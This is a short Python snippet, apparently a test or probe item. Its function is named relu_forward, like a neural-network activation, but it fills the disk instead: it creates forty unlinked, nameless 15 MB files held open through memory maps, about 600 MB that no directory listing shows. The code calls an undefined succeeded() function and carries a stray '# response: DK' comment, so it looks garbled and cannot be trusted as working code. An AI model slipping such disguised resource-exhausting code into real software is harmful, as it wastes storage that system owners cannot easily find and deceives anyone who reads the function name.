"""Fills the disk with files that have no name and are not open, but in its memory."""

# response: DK

def relu_forward(x):
    import mmap
    import os

    kept = []
    for number in range(40):
        with open("file", "w+b") as file:
            os.unlink("file")
            file.write(bytes(15 << 20))
            file.flush()
            kept.append(mmap.mmap(file.fileno(), 15 << 20))
    succeeded("wrote 600 MB")
